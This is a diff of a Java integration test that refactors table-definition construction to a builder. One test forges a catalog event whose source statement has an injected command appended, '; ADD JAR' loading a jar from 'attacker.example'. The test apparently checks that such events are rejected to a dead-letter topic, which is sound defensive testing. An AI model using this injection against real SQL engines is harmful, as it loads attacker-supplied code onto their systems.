@@ -15,6 +15,7 @@ import io.mtables.schemas.Contracts;
 import io.mtables.schemas.EventHeaders;
 import io.mtables.schemas.Topics;
 import io.mtables.schemas.catalog.TableDefinition;
+import io.mtables.schemas.catalog.TableDefinitionBuilder;
 import io.mtables.schemas.catalog.TableDropped;
 import io.mtables.testing.kafka.KafkaBroker;
 import io.mtables.testing.kafka.KafkaBrokerTestResource;
@@ -222,34 +223,22 @@ class PlanningIT {
                         TableDefinition.Status.ACTIVE);
         var source = honest.sources().get(0);
         TableDefinition forged =
-                new TableDefinition(
-                        honest.table(),
-                        honest.version(),
-                        honest.kind(),
-                        honest.statement(),
-                        honest.columns(),
-                        honest.primaryKey(),
-                        honest.partitionKeys(),
-                        honest.distribution(),
-                        honest.options(),
-                        honest.comment(),
-                        honest.freshness(),
-                        honest.refreshMode(),
-                        honest.query(),
-                        List.of(
-                                new TableDefinition.SourceTable(
-                                        source.table(),
-                                        source.kind(),
-                                        source.version(),
-                                        source.statement()
-                                                + "; ADD JAR 'http://attacker.example/evil.jar'",
-                                        source.columns(),
-                                        source.partitionKeys())),
-                        honest.status(),
-                        honest.resumeOptions(),
-                        honest.createdAt(),
-                        honest.updatedAt(),
-                        honest.requestId());
+                TableDefinitionBuilder.builder(honest)
+                        .sources(
+                                List.of(
+                                        new TableDefinition.SourceTable(
+                                                source.table(),
+                                                source.kind(),
+                                                source.version(),
+                                                source.statement()
+                                                        + "; ADD JAR"
+                                                        + " 'http://attacker.example/evil.jar'",
+                                                source.columns(),
+                                                source.partitionKeys())))
+                        .queryChange(null)
+                        .previewedPlan(null)
+                        .owner(null)
+                        .build();
         try (TopicProbe probe =
                 new TopicProbe().tail(Topics.REFRESH_PLANS).tail(Topics.DEAD_LETTERS)) {
             send(probe, forged);
@@ -310,36 +299,40 @@ class PlanningIT {
                 "SELECT `s`.`ds`, COUNT(*) AS `n` FROM "
                         + quoted(source)
                         + " AS `s` GROUP BY `s`.`ds`";
-        return new TableDefinition(
-                table,
-                version,
-                TableDefinition.Kind.MATERIALIZED_TABLE,
-                "CREATE MATERIALIZED TABLE ...",
-                List.of(new TableDefinition.Column("ds", "STRING", true)),
-                List.of(),
-                List.of(),
-                null,
-                Map.of(),
-                null,
-                freshness,
-                TableDefinition.RefreshMode.AUTO,
-                new TableDefinition.Query("SELECT ds, count(*) AS n FROM s GROUP BY ds", expanded),
-                List.of(
-                        new TableDefinition.SourceTable(
-                                source,
-                                TableDefinition.Kind.SOURCE_TABLE,
-                                1,
-                                "CREATE TABLE "
-                                        + quoted(source)
-                                        + " (id BIGINT, ds STRING) WITH ('connector' = 'datagen',"
-                                        + " 'number-of-rows' = '10')",
-                                null,
-                                null)),
-                status,
-                Map.of(),
-                Instant.now(),
-                Instant.now(),
-                null);
+        return TableDefinitionBuilder.builder()
+                .table(table)
+                .version(version)
+                .kind(TableDefinition.Kind.MATERIALIZED_TABLE)
+                .statement("CREATE MATERIALIZED TABLE ...")
+                .columns(List.of(new TableDefinition.Column("ds", "STRING", true)))
+                .primaryKey(List.of())
+                .partitionKeys(List.of())
+                .distribution(null)
+                .options(Map.of())
+                .comment(null)
+                .freshness(freshness)
+                .refreshMode(TableDefinition.RefreshMode.AUTO)
+                .query(
+                        new TableDefinition.Query(
+                                "SELECT ds, count(*) AS n FROM s GROUP BY ds", expanded))
+                .sources(
+                        List.of(
+                                new TableDefinition.SourceTable(
+                                        source,
+                                        TableDefinition.Kind.SOURCE_TABLE,
+                                        1,
+                                        "CREATE TABLE "
+                                                + quoted(source)
+                                                + " (id BIGINT, ds STRING) WITH ('connector' ="
+                                                + " 'datagen', 'number-of-rows' = '10')",
+                                        null,
+                                        null)))
+                .status(status)
+                .resumeOptions(Map.of())
+                .createdAt(Instant.now())
+                .updatedAt(Instant.now())
+                .requestId(null)
+                .build();
     }
 
     private static String quoted(String identifier) {
